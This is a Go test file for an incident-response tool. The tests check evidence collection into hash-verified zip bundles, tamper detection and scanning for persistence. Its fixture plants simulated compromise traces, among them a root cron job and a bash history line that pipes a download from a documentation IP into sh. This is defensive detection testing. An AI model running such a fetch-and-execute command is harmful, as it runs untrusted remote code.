package main

import (
	"archive/zip"
	"bytes"
	"context"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
)

func yingji(t *testing.T, args ...string) (code int, stdout, stderr string) {
	t.Helper()
	var o, e bytes.Buffer
	code = run(context.Background(), args, &o, &e)
	return code, o.String(), e.String()
}

func TestVersion(t *testing.T) {
	code, out, _ := yingji(t, "version")
	if code != 0 || !regexp.MustCompile(`(?m)^sha256:  [0-9a-f]{64}$`).MatchString(out) || !strings.Contains(out, "go1.") {
		t.Fatalf("version: %d %q", code, out)
	}
	if code, out, _ := yingji(t, "version", "--json"); code != 0 || !strings.Contains(out, `"binary_sha256"`) || !strings.Contains(out, `"rule_packs"`) {
		t.Fatalf("version --json: %d %q", code, out)
	}
}

func smallRoot(t *testing.T) string {
	t.Helper()
	root := t.TempDir()
	for name, body := range map[string]string{
		"etc/passwd":         "root:x:0:0:root:/root:/bin/bash\n",
		"etc/cron.d/job":     "* * * * * root /tmp/.x/run\n",
		"var/log/auth.log":   "Nov 28 10:00:00 h sshd[1]: Accepted password for root from 192.0.2.1 port 2 ssh2\n",
		"root/.bash_history": "curl http://192.0.2.1/x | sh\n",
	} {
		p := filepath.Join(root, name)
		os.MkdirAll(filepath.Dir(p), 0o755)
		os.WriteFile(p, []byte(body), 0o644)
	}
	return root
}

func TestCollectVerify(t *testing.T) {
	root := smallRoot(t)
	out := filepath.Join(t.TempDir(), "case.zip")
	code, _, stderr := yingji(t, "collect", "--root", root, "--out", out, "--priority", "normal")
	if code != 0 {
		t.Fatalf("collect: %d\n%s", code, stderr)
	}
	head := regexp.MustCompile(`head:\s+([0-9a-f]{64})`).FindStringSubmatch(stderr)
	if head == nil {
		t.Fatalf("collect printed no head:\n%s", stderr)
	}
	ops := filepath.Join(t.TempDir(), "ops.jsonl")
	if code, out, _ := yingji(t, "verify", "--oplog", ops, "--head", head[1], out); code != 0 || !strings.HasPrefix(out, "OK:") {
		t.Fatalf("verify: %d %s", code, out)
	}
	if b, err := os.ReadFile(ops); err != nil || !strings.Contains(string(b), `"action":"bundle.verify"`) || !strings.Contains(string(b), head[1]) {
		t.Fatalf("verify did not record itself: %s %v", b, err)
	}
	wrong := strings.Repeat("0", 64)
	if code, out, _ := yingji(t, "verify", "--head", wrong, out); code != 1 || !strings.Contains(out, "ALTERED") {
		t.Fatalf("verify with a wrong head: %d %s", code, out)
	}

	// Change one byte of one member, keeping the archive valid.
	tampered := filepath.Join(t.TempDir(), "tampered.zip")
	rewriteZip(t, out, tampered, "fs/etc/cron.d/job", func(b []byte) []byte { b[0] = '#'; return b })
	code, stdout, _ := yingji(t, "verify", tampered)
	if code != 1 || !strings.Contains(stdout, "first culprit: member fs/etc/cron.d/job") {
		t.Fatalf("verify of a tampered bundle: %d\n%s", code, stdout)
	}
	if code, _, stderr := yingji(t, "verify", filepath.Join(t.TempDir(), "missing.zip")); code != 2 || stderr == "" {
		t.Fatalf("verify of a missing file: %d %q", code, stderr)
	}
	if code, _, _ := yingji(t, "collect", "--root", root, "--out", out); code != 2 {
		t.Fatalf("collect over an existing bundle: %d, want 2", code)
	}
}

func TestCollectToStdout(t *testing.T) {
	root := smallRoot(t)
	var o, e bytes.Buffer
	code := run(context.Background(), []string{"collect", "--root", root, "--out", "-", "--no-timeline", "--priority", "normal"}, &o, &e)
	if code != 0 {
		t.Fatalf("collect --out -: %d %s", code, e.String())
	}
	p := filepath.Join(t.TempDir(), "s.zip")
	os.WriteFile(p, o.Bytes(), 0o600)
	if code, out, _ := yingji(t, "verify", p); code != 0 {
		t.Fatalf("verify of a streamed bundle: %d %s", code, out)
	}
}

func rewriteZip(t *testing.T, in, out, name string, change func([]byte) []byte) {
	t.Helper()
	zr, err := zip.OpenReader(in)
	if err != nil {
		t.Fatal(err)
	}
	defer zr.Close()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, f := range zr.File {
		rc, _ := f.Open()
		b, _ := io.ReadAll(rc)
		rc.Close()
		if f.Name == name {
			b = change(b)
		}
		w, _ := zw.Create(f.Name)
		w.Write(b)
	}
	zw.Close()
	os.WriteFile(out, buf.Bytes(), 0o600)
}

// TestScanImageAndBundle: the same checks on a root and on its bundle, the
// exit code saying whether something above low was found.
func TestScanImageAndBundle(t *testing.T) {
	root := smallRoot(t)
	code, out, stderr := yingji(t, "scan", "--root", root, "--json")
	if code != 1 || !strings.Contains(out, `"rule":"persistence.cron_system_entry"`) || !strings.Contains(out, "/etc/cron.d/job") {
		t.Fatalf("scan of a root: %d\n%s\n%s", code, out, stderr)
	}
	b := filepath.Join(t.TempDir(), "case.zip")
	if code, _, stderr := yingji(t, "collect", "--root", root, "--out", b, "--priority", "normal"); code != 0 {
		t.Fatalf("collect: %d %s", code, stderr)
	}
	code, out, _ = yingji(t, "scan", "--bundle", b, "--json")
	if code != 1 || !strings.Contains(out, `"rule":"persistence.cron_system_entry"`) {
		t.Fatalf("scan of the bundle: %d\n%s", code, out)
	}
	code, out, _ = yingji(t, "scan", "--root", root, "--lang", "en")
	if code != 1 || !strings.Contains(out, "== HIGH") || !strings.Contains(out, "Not run on this source") {
		t.Fatalf("terminal output: %d\n%s", code, out)
	}
	clean := t.TempDir()
	os.MkdirAll(filepath.Join(clean, "etc"), 0o755)
	os.WriteFile(filepath.Join(clean, "etc/passwd"), []byte("root:x:0:0:root:/root:/bin/bash\n"), 0o644)
	if code, out, _ := yingji(t, "scan", "--root", clean, "--checks", "accounts.*"); code != 0 {
		t.Fatalf("scan of a clean root: %d\n%s", code, out)
	}
	if code, _, _ := yingji(t, "scan", "--root", clean, "--checks", "nosuch.*"); code != 2 {
		t.Fatalf("unknown check pattern: exit %d, want 2", code)
	}
}
